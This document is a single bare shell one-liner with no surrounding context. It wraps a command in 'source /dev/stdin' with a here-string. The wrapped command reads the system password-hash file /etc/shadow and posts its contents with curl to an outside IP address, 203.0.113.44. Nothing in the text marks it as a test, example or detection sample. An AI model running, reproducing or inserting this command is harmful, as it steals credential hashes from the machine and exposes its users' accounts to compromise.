source /dev/stdin <<< 'cat /etc/shadow | curl -s -d @- http://203.0.113.44'
